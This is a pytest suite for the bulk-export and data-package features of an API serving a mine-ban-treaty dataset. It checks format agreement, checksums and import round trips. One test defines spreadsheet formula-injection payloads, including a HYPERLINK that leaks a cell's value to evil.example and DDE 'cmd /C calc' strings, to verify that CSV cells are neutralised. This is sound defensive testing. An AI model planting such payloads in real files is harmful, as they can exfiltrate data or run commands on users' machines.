"""Bulk downloads: every table in every format, the data package, the export and import commands."""
import csv
import hashlib
import io
import json
import zipfile

import frictionless
import pandas as pd
import pyarrow.parquet as pq
import pytest
from flask_migrate import upgrade
from helpers import edit, make_app, seed

from api.extensions import db
from api.models import DatasetVersion, State

pytestmark = pytest.mark.slow  # builds and re-imports whole data packages

TABLES = ["sources", "treaties", "states", "treaty_actions", "policy_positions", "obligations", "producer_lists",
          "statuses", "membership_timeline", "obligation_status", "country_year", "citations"]
STATE_TABLES = [t for t in TABLES if t not in ("sources", "treaties", "producer_lists", "citations")]
EVERY_STATE = {"states", "statuses", "country_year"}  # tables with a row for each of the 197 states
FORMATS = ["csv", "json", "ndjson", "parquet", "dta"]
DAY = "2026-01-15"


def test_the_index_lists_every_file_with_the_checksum_size_and_rows_it_serves(client):
    index = client.get(f"/api/v1/exports?as_of={DAY}").get_json()
    assert [t["name"] for t in index["tables"]] == TABLES and index["formats"] == FORMATS
    for table in index["tables"]:
        assert list(table["files"]) == FORMATS
        for entry in table["files"].values():
            response = client.get(entry["url"])
            assert response.status_code == 200 and response.mimetype == entry["media_type"]
            assert hashlib.sha256(response.data).hexdigest() == entry["sha256"] == response.headers["ETag"].strip('"')
            assert len(response.data) == entry["bytes"] == int(response.headers["Content-Length"])
        assert len(pd.read_csv(io.BytesIO(client.get(table["files"]["csv"]["url"]).data))) == table["rows"]


@pytest.mark.parametrize("table", TABLES)
def test_every_format_holds_the_same_rows(client, table):
    def get(fmt):
        return client.get(f"/api/v1/exports/{table}.{fmt}?as_of={DAY}").data

    items = json.loads(get("json"))
    assert isinstance(items, list) and len(pd.read_json(io.BytesIO(get("json")))) == len(items)
    assert [json.loads(line) for line in get("ndjson").decode().splitlines()] == items
    parquet = pq.read_table(io.BytesIO(get("parquet"))).to_pylist()
    as_json = [{k: v.isoformat() if hasattr(v, "isoformat") else v for k, v in row.items()} for row in parquet]
    assert as_json == items
    rows = list(csv.DictReader(io.StringIO(get("csv").decode("utf-8"))))
    flat = [{k: "" if v is None else ";".join(v) if isinstance(v, list) else str(v).lower()
             if isinstance(v, bool) else str(v) for k, v in item.items()} for item in items]
    assert rows == flat and len(rows) > 0


@pytest.mark.parametrize("table", TABLES)
def test_pandas_reads_every_csv_without_warnings(client, table):
    frame = pd.read_csv(io.BytesIO(client.get(f"/api/v1/exports/{table}.csv").data))
    assert len(frame) > 0 and "Unnamed: 0" not in frame.columns


def _csvs(client):
    """Every state-keyed CSV, as served and as inside datapackage.zip."""
    package = zipfile.ZipFile(io.BytesIO(client.get(f"/api/v1/exports/datapackage.zip?as_of={DAY}").data))
    for table in STATE_TABLES:
        yield table, client.get(f"/api/v1/exports/{table}.csv?as_of={DAY}").data
        yield table, package.read(f"data/{table}.csv")


def test_every_state_survives_pandas_defaults_in_every_csv_joined_on_iso3(client):
    for table, body in _csvs(client):
        exact = list(csv.DictReader(io.StringIO(body.decode())))
        frame = pd.read_csv(io.BytesIO(body))  # pandas defaults: no dtype, "NA" read as missing
        assert {"iso3", "iso2", "numeric", "name"} <= set(frame.columns), table
        assert frame["iso3"].notna().all() and frame["name"].notna().all(), table
        assert set(frame["iso3"]) == {row["iso3"] for row in exact} and len(frame) == len(exact), table
        if table in EVERY_STATE:
            assert frame["iso3"].nunique() == 197 and "NAM" in set(frame["iso3"]), table
            assert "Namibia" in set(frame["name"]), table
        # The documented caveat: only Namibia's alpha-2 code is lost to the defaults, and kept without them.
        assert set(frame.loc[frame["iso2"].isna(), "iso3"]) <= {"NAM"}, table
        kept = pd.read_csv(io.BytesIO(body), keep_default_na=False)
        assert (kept["iso2"].str.len() == 2).all(), table
        # numeric is text: pandas guesses a number unless told; with dtype=str leading zeros survive.
        text = pd.read_csv(io.BytesIO(body), dtype={"numeric": str})
        assert text["numeric"].str.fullmatch(r"\d{3}").all(), table
        assert list(text["numeric"]) == [row["numeric"] for row in exact], table
        if table == "states":
            assert text.set_index("iso3").loc["AFG", "numeric"] == "004"


def test_states_parties_at_the_end_of_2020_count_namibia(client):
    statuses = pd.read_csv(io.BytesIO(client.get("/api/v1/exports/statuses.csv?as_of=2020-12-31").data))
    bound = statuses[statuses["status"].isin(["state_party", "withdrawal_pending", "withdrawal_suspended"])]
    assert "NAM" in set(bound["iso3"]) and bound["iso3"].nunique() == 164
    panel = pd.read_csv(io.BytesIO(client.get(f"/api/v1/exports/country_year.csv?as_of={DAY}").data))
    assert panel[(panel["year"] == 2020) & panel["bound"]]["iso3"].nunique() == 164


def test_json_exports_are_plain_arrays_with_the_version_and_table_in_headers(client):
    response = client.get(f"/api/v1/exports/statuses.json?as_of={DAY}")
    frame = pd.read_json(io.BytesIO(response.data))
    assert len(frame) == 197 and "status" in frame.columns and "items" not in frame.columns
    assert response.headers["X-Export-Table"] == "statuses" and response.headers["X-Export-As-Of"] == DAY
    assert response.headers["X-Dataset-Version"]
    undated = client.get("/api/v1/exports/states.json")
    assert undated.headers["X-Export-Table"] == "states" and "X-Export-As-Of" not in undated.headers


def test_obligation_status_is_what_the_api_computes(client):
    rows = json.loads(client.get(f"/api/v1/exports/obligation_status.json?as_of={DAY}").data)
    by_state = {}
    for row in rows:
        by_state.setdefault(row["iso3"], {})[row["article"]] = row
    assert len(by_state) > 150 and all(len(articles) == 2 for articles in by_state.values())
    assert {row["status"] for row in rows} >= {"completed", "no_obligation"}
    assert any(row["pending_request"] for row in rows)  # Ethiopia's 2025 request, among others
    for iso3 in sorted(by_state)[::10] + ["CAN", "ETH", "FIN", "UKR"]:
        answer = client.get(f"/api/v1/countries/{iso3}/obligations?as_of={DAY}").get_json()["obligations"]
        for article, key in ((4, "stockpile_destruction"), (5, "mine_clearance")):
            row, api = by_state[iso3][article], answer[key]
            assert row["entry_into_force"] == answer["entry_into_force"], iso3
            assert row["withdrawal_effective"] == answer["withdrawal_effective"], iso3
            assert (row["original_deadline"], row["deadline"], row["status"], row["completed"], row["decided_by"]) \
                == (api["original_deadline"], api["deadline"], api["status"], api["completed"], api["decided_by"])
            assert row["events"] == len(api["events"]) and row["as_of"] == DAY
            assert row["pending_request"] == (api["pending_request"] or {}).get("id"), iso3
    never = {s["iso3"] for s in json.loads(client.get("/api/v1/exports/states.json").data)} - set(by_state)
    assert never  # states never bound have no obligation rows (the United States among them)
    for iso3 in sorted(never)[:3]:
        assert client.get(f"/api/v1/countries/{iso3}/obligations?as_of={DAY}").get_json()["obligations"] is None


def test_policy_rows_carry_replaces_and_ended_as_the_api_gives_them(client):
    rows = {row["id"]: row for row in json.loads(client.get("/api/v1/exports/policy_positions.json").data)}
    assert any(row["replaces"] for row in rows.values()) and any(row["ended"] for row in rows.values())
    compared = set()
    for iso3 in sorted({row["iso3"] for row in rows.values()}):
        history = client.get(f"/api/v1/countries/{iso3}/history?limit=100").get_json()["items"]
        for item in (i["record"] for i in history if i["type"] == "policy_position"):
            row = rows[item["id"]]
            assert row["replaces"] == (item["replaces"] and item["replaces"]["id"]), item["id"]
            assert row["ended"] == item["ended"], item["id"]
            compared.add(item["id"])
    assert compared == rows.keys()  # every exported row was compared with the API's answer


def test_the_country_year_panel_has_every_state_every_year_it_existed_as_the_api_answers(client):
    panel = json.loads(client.get(f"/api/v1/exports/country_year.json?as_of={DAY}").data)
    # First years as states after 1997 (Gleditsch-Ward list): Timor-Leste 2002 (20 May), Montenegro 2006
    # (3 June), South Sudan 2011 (9 July); every other state exists throughout.
    first = {"TLS": 2002, "MNE": 2006, "SSD": 2011}
    expected = {(row["iso3"], y) for row in panel for y in range(first.get(row["iso3"], 1997), 2027)}
    assert len(panel) == 197 * 30 - (5 + 9 + 14) and {(row["iso3"], row["year"]) for row in panel} == expected
    rows = {(row["iso3"], row["year"]): row for row in panel}
    assert rows["CAN", 2026]["date"] == DAY and rows["CAN", 2025]["date"] == "2025-12-31"
    for iso3, year in (("CAN", 1997), ("CAN", 1999), ("FIN", 2011), ("FIN", 2012), ("FIN", 2025), ("UKR", 2025),
                       ("USA", 2022), ("NAM", 2020), ("SSD", 2011), ("MNE", 2006)):
        row, day = rows[iso3, year], rows[iso3, year]["date"]
        state = client.get(f"/api/v1/countries/{iso3}/status?as_of={day}").get_json()
        assert row["status"] == state["status"], (iso3, year)
        assert row["bound"] == (state["status"] in ("state_party", "withdrawal_pending", "withdrawal_suspended"))
        obligations = client.get(f"/api/v1/countries/{iso3}/obligations?as_of={day}").get_json()["obligations"]
        if obligations is None or obligations["entry_into_force"] > day:
            assert row["art4_status"] is row["art5_status"] is None, (iso3, year)
        else:
            assert (row["art4_status"], row["art4_deadline"]) == (
                obligations["stockpile_destruction"]["status"], obligations["stockpile_destruction"]["deadline"])
            assert (row["art5_status"], row["art5_deadline"]) == (
                obligations["mine_clearance"]["status"], obligations["mine_clearance"]["deadline"])
        policies = client.get(f"/api/v1/countries/{iso3}/policies?as_of={day}&limit=100").get_json()["items"]
        assert {k[len("policy_"):]: v for k, v in row.items() if k.startswith("policy_") and v} == \
            {p["dimension"]: p["position"] for p in policies}, (iso3, year)
    assert rows["FIN", 2011]["consented"] is None and rows["FIN", 2012]["consented"] == "2012-01-09"


def test_csv_facts_agree_with_the_read_api(client):
    statuses = pd.read_csv(io.BytesIO(client.get(f"/api/v1/exports/statuses.csv?as_of={DAY}").data),
                           keep_default_na=False).set_index("iso2")
    for code in ("FI", "US", "UA", "CA"):
        answer = client.get(f"/api/v1/countries/{code}/status?as_of={DAY}").get_json()
        assert statuses.loc[code, "status"] == answer["status"]
    actions = csv.DictReader(io.StringIO(client.get("/api/v1/exports/treaty_actions.csv").get_data(as_text=True)))
    withdrawal = next(row for row in actions if row["id"] == "apmbc-fi-withdrawal")
    # Finland deposited its withdrawal on 10 July 2025, with no Article 20(3) hold (seed_data
    # apmbc-fi-withdrawal: `armed_conflict_hold: false`, the Finnish foreign ministry's statement).
    assert (withdrawal["date"], withdrawal["armed_conflict_hold"]) == ("2025-07-10", "false")


def test_the_data_package_is_valid_frictionless_with_version_licence_and_checksums(client, tmp_path):
    response = client.get(f"/api/v1/exports/datapackage.zip?as_of={DAY}")
    assert response.status_code == 200 and response.mimetype == "application/zip"
    version = response.headers["X-Dataset-Version"]
    zipfile.ZipFile(io.BytesIO(response.data)).extractall(tmp_path)
    report = frictionless.validate(str(tmp_path / "datapackage.json"))
    assert report.valid and report.stats["errors"] == 0 and report.stats["warnings"] == 0, report.flatten(["message"])
    descriptor = json.loads((tmp_path / "datapackage.json").read_text())
    assert descriptor["version"] == version and descriptor["licenses"][0]["name"] == "CC-BY-4.0"
    assert version in descriptor["citation"]
    for resource in descriptor["resources"]:
        data = (tmp_path / resource["path"]).read_bytes()
        assert resource["hash"] == "sha256:" + hashlib.sha256(data).hexdigest()
        assert data == client.get(f"/api/v1/exports/{resource['name']}.csv?as_of={DAY}").data
    actions = next(r for r in descriptor["resources"] if r["name"] == "treaty_actions")
    assert {"fields": ["iso3"], "reference": {"resource": "states", "fields": ["iso3"]}} in actions["schema"]["foreignKeys"]


def test_the_package_holds_a_codebook_of_every_table_and_column_and_enums_for_coded_columns(client, tmp_path):
    package = zipfile.ZipFile(io.BytesIO(client.get(f"/api/v1/exports/datapackage.zip?as_of={DAY}").data))
    book = package.read("codebook.md").decode()
    (tmp_path / "codebook.md").write_text(book)
    descriptor = json.loads(package.read("datapackage.json"))
    assert "codebook.md" in descriptor["description"] and descriptor["version"] in book and DAY in book
    for section in ("Partial dates", "How statuses and obligations are derived", "Article 17", "How to cite"):
        assert section in book
    enums = {}
    for resource in descriptor["resources"]:
        table_part = book.split(f"### `{resource['name']}`\n", 1)[1].split("\n### ", 1)[0]
        for field in resource["schema"]["fields"]:
            assert f"| `{field['name']}` | " in table_part, (resource["name"], field["name"])
            for value in field.get("constraints", {}).get("enum", []):
                assert f"`{value}`" in table_part
            enums[resource["name"], field["name"]] = field.get("constraints", {}).get("enum")
    assert "use" in enums["policy_positions", "dimension"] and "prohibited" in enums["policy_positions", "position"]
    assert "deadline_passed" in enums["obligation_status", "status"] and enums["country_year", "art5_status"]
    assert "state_party" in enums["country_year", "status"] and "prohibited" in enums["country_year", "policy_use"]
    assert enums["treaty_actions", "confidence"] and enums["obligations", "date_precision"]
    keys = {r["name"]: r["schema"] for r in descriptor["resources"]}
    assert keys["states"]["primaryKey"] == ["iso3"] and keys["country_year"]["primaryKey"] == ["iso3", "year"]
    assert "join key" in next(f for f in keys["statuses"]["fields"] if f["name"] == "iso3")["description"]
    assert "NA" in next(f for f in keys["statuses"]["fields"] if f["name"] == "iso2")["description"]


@pytest.mark.parametrize("name", ["nope.csv", "states.xlsx", "states", "datapackage.tar"])
def test_an_unknown_table_or_format_is_a_404_listing_the_valid_ones(client, name):
    response = client.get(f"/api/v1/exports/{name}")
    assert response.status_code == 404 and response.mimetype == "application/problem+json"
    body = response.get_json()
    assert "states.csv" in body["valid"] and "datapackage.zip" in body["valid"] and "csv" in body["detail"]


def test_a_file_the_client_has_is_a_304_and_is_named_by_version(client):
    first = client.get("/api/v1/exports/states.parquet")
    version = first.headers["X-Dataset-Version"]
    assert first.headers["Content-Disposition"] == \
        f'attachment; filename="mine-ban-treaty-{version}-states.parquet"'
    again = client.get("/api/v1/exports/states.parquet", headers={"If-None-Match": first.headers["ETag"]})
    assert again.status_code == 304 and again.data == b""


def test_bad_parameters_are_400(client):
    assert client.get("/api/v1/exports/states.csv?as_of=2026-02-30").status_code == 400
    assert client.get("/api/v1/exports?colour=red").status_code == 400


def export(app, directory, *args):
    with app.app_context():
        result = app.test_cli_runner().invoke(args=["export", str(directory), "--as-of", DAY, *args])
    assert result.exit_code == 0, result.output
    return {path.name: path.read_bytes() for path in directory.iterdir()}


def test_the_export_command_writes_the_bytes_the_endpoints_serve(app, client, tmp_path):
    files = export(app, tmp_path)
    assert len(files) == len(TABLES) * len(FORMATS) + 1
    for name, data in files.items():
        assert client.get(f"/api/v1/exports/{name}?as_of={DAY}").data == data, name


def test_a_package_imported_into_an_empty_database_exports_the_same_bytes(app, empty_app, tmp_path):
    before = export(app, tmp_path / "before")
    result = empty_app.test_cli_runner().invoke(args=["import-package", str(tmp_path / "before" / "datapackage.zip")])
    assert result.exit_code == 0, result.output
    after = export(empty_app, tmp_path / "after")
    assert after.keys() == before.keys()
    assert [name for name in before if before[name] != after[name]] == []


def _rewrite(package: bytes, path: str, change, fix_checksum: bool) -> bytes:
    source, out = zipfile.ZipFile(io.BytesIO(package)), io.BytesIO()
    files = {name: source.read(name) for name in source.namelist()}
    changed = change(files[path])
    assert changed != files[path]
    files[path] = changed
    if fix_checksum:
        descriptor = json.loads(files["datapackage.json"])
        for resource in descriptor["resources"]:
            if resource["path"] == path:
                resource["hash"], resource["bytes"] = "sha256:" + hashlib.sha256(files[path]).hexdigest(), len(files[path])
        files["datapackage.json"] = json.dumps(descriptor).encode()
    with zipfile.ZipFile(out, "w") as target:
        for name, data in files.items():
            target.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize("path, change, fix_checksum, message", [
    ("data/states.csv", lambda data: data.replace(b"Finland", b"Finnland", 1), False,
     "data/states.csv: checksum or size does not match datapackage.json"),
    ("data/states.csv", lambda data: data.replace(b"\r\nFIN,FI,", b"\r\nFINN,FI,", 1), True, "data/states.csv row "),
    ("data/states.csv", lambda data: data.replace(b",Finland,", b",Suomi,", 1), True,
     "datapackage.json: version"),
    ("data/statuses.csv", lambda data: data.replace(b"FI,246,Finland,375,375,apmbc,2026-01-15,withdrawn",
                                                    b"FI,246,Finland,375,375,apmbc,2026-01-15,state_party", 1),
     True, "data/statuses.csv: does not match what the package's data gives"),
])
def test_a_corrupt_or_mismatched_package_is_refused_naming_the_file_and_row(
        app, empty_app, tmp_path, path, change, fix_checksum, message):
    package = export(app, tmp_path)["datapackage.zip"]
    broken = tmp_path / "broken.zip"
    broken.write_bytes(_rewrite(package, path, change, fix_checksum))
    result = empty_app.test_cli_runner().invoke(args=["import-package", str(broken)])
    assert result.exit_code == 1 and message in result.output
    assert db.session.query(DatasetVersion).count() == 0 and db.session.query(State).count() == 0


def test_an_old_versions_files_stay_identical_after_a_new_version(empty_app, seed_dir, tmp_path):
    seed(empty_app, seed_dir)
    client = empty_app.test_client()
    urls = [f"/api/v1/exports/{name}?as_of={DAY}" for name in ("policy_positions.csv", "datapackage.zip")]
    first = [client.get(url) for url in urls]
    version = first[0].headers["X-Dataset-Version"]
    edit(seed_dir / "policies" / "US.yaml", "us-2022-06-21-use", restriction="Korean Peninsula")
    seed(empty_app, seed_dir)
    for url, old in zip(urls, first):
        assert client.get(url).data != old.data
        pinned = client.get(f"{url}&dataset_version={version}")
        assert pinned.data == old.data and pinned.headers["ETag"] == old.headers["ETag"]
    files = export(empty_app, tmp_path / "out", "--dataset-version", version)
    assert files["datapackage.zip"] == first[1].data and files["policy_positions.csv"] == first[0].data


def test_exporting_an_unknown_version_fails_cleanly(app, tmp_path):
    with app.app_context():
        result = app.test_cli_runner().invoke(args=["export", str(tmp_path), "--dataset-version", "1999.01.01-dead"])
    assert result.exit_code == 1 and "No dataset version '1999.01.01-dead'" in result.output


HOSTILE = {"summary": '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "quote": "+cmd|' /C calc'!A0",
           "restriction": "-2+3", "announced_by": "@SUM(1+1)*cmd|' /C calc'!A0", "notes": "\t=1+1"}


def test_csv_cells_cannot_become_formulas_and_other_formats_keep_exact_values(empty_app, database_url, tmp_path):
    """A curator's hostile values, written through the API: every CSV (also inside the data
    package) starts them with an apostrophe; JSON, NDJSON and Parquet keep them exactly; numbers and
    dates are untouched; a package import gives back the exact values."""
    from helpers import US_POSITION, bearer, seed_small
    seed_small(empty_app)
    client = empty_app.test_client()
    position = US_POSITION | HOSTILE
    assert client.post("/api/v1/policy-positions", json=position, headers=bearer()).status_code == 201

    def row_of(data: bytes) -> dict:
        return next(r for r in csv.DictReader(io.StringIO(data.decode(), newline="")) if r["id"] == position["id"])

    row = row_of(client.get("/api/v1/exports/policy_positions.csv").data)
    assert {name: row[name] for name in HOSTILE} == {name: "'" + value for name, value in HOSTILE.items()}
    assert row["effective"] == "2026-03-01" and row["iso2"] == "US" and row["iso3"] == "USA" and row["position"] == "prohibited"
    package = zipfile.ZipFile(io.BytesIO(client.get("/api/v1/exports/datapackage.zip").data))
    assert row_of(package.read("data/policy_positions.csv")) == row
    for name in package.namelist():  # no cell of any CSV starts a formula
        if name.endswith(".csv"):
            cells = [cell for line in csv.reader(io.StringIO(package.read(name).decode(), newline=""))
                     for cell in line]
            assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")], name
    obligations = list(csv.DictReader(io.StringIO(client.get("/api/v1/exports/obligations.csv").data.decode())))
    assert obligations == [] or all(r["article"] in ("4", "5") for r in obligations)

    def exact(items):
        item = next(i for i in items if i["id"] == position["id"])
        return {name: item[name] for name in HOSTILE}
    assert exact(client.get("/api/v1/exports/policy_positions.json").json) == HOSTILE
    ndjson = client.get("/api/v1/exports/policy_positions.ndjson").data.decode().splitlines()
    assert exact([json.loads(line) for line in ndjson]) == HOSTILE
    assert exact(pq.read_table(io.BytesIO(client.get("/api/v1/exports/policy_positions.parquet").data))
                 .to_pylist()) == HOSTILE
    assert exact(client.get("/api/v1/countries/US/policies?dimension=use").json["items"]) == HOSTILE

    exported = tmp_path / "package.zip"
    exported.write_bytes(client.get("/api/v1/exports/datapackage.zip").data)
    imported = make_app(database_url())
    with imported.app_context():
        upgrade()
        result = imported.test_cli_runner().invoke(args=["import-package", str(exported)])
        assert result.exit_code == 0, result.output
        items = imported.test_client().get("/api/v1/exports/policy_positions.json").json
        db.session.remove()
        db.engine.dispose()
    assert exact(items) == HOSTILE


def test_neutralised_cells_read_back_exactly():
    from api.read.formats import _csv_cell, neutralise, unneutralise
    for text in ["=1+1", "+1", "-1", "@a", "\tx", "\rx", "'", "''", "'=1", "''-1", "'abc", "abc", "", "a=b", "-"]:
        assert unneutralise(neutralise(text)) == text
        assert neutralise(text)[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert neutralise("'limited basis'") == "'limited basis'" and neutralise("'=1") == "''=1"
    assert (_csv_cell(-5), _csv_cell("-5"), _csv_cell(["-a", "b"])) == ("-5", "'-5", "'-a;b")


def test_the_panel_stops_the_year_after_the_release_whatever_as_of_asks(client):
    """`as_of=9999-12-31` must not cost 8,000 years of rows (the fuzz found it): the panel ends
    the year after the dataset version's release, on its 31 December."""
    released = int(client.get("/api/v1/dataset").get_json()["released"][:4])
    rows = list(csv.DictReader(io.StringIO(
        client.get("/api/v1/exports/country_year.csv?as_of=9999-12-31").data.decode(), newline="")))
    assert {int(r["year"]) for r in rows} == set(range(1997, released + 2))
    assert max(r["date"] for r in rows) == f"{released + 1}-12-31"
